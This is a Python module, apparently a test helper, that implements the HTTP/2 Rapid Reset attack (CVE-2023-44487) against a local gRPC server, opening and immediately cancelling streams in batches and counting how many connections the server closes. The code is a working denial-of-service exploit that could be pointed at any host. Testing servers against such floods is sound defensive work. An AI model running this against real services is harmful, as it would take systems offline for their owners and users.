"""An HTTP/2 client that opens streams and resets each at once, which costs it nothing and a server a call (CVE-2023-44487)."""

import asyncio

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError

AT_ONCE = 100
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/trackedlinks.v1.LinkService/GetLink"),
    (":authority", "attacker"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


async def reset(port: int, streams: int) -> int:
    """Opens and resets so many streams, on a new connection whenever the server ends one; the number of connections."""
    sent = connections = 0
    while sent < streams:
        connections += 1
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        client = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
        client.initiate_connection()
        reading = asyncio.create_task(_read(client, reader, writer))
        try:
            while sent < streams and not reading.done():
                for _ in range(AT_ONCE):
                    stream = client.get_next_available_stream_id()
                    client.send_headers(stream, HEADERS)
                    client.reset_stream(stream, ErrorCodes.CANCEL)
                sent += AT_ONCE
                writer.write(client.data_to_send())
                await writer.drain()
        except (ProtocolError, OSError):
            pass  # the server has had enough of this connection
        reading.cancel()
        writer.close()
    return connections


async def _read(client: H2Connection, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while received := await reader.read(65_536):
        client.receive_data(received)
        writer.write(client.data_to_send())
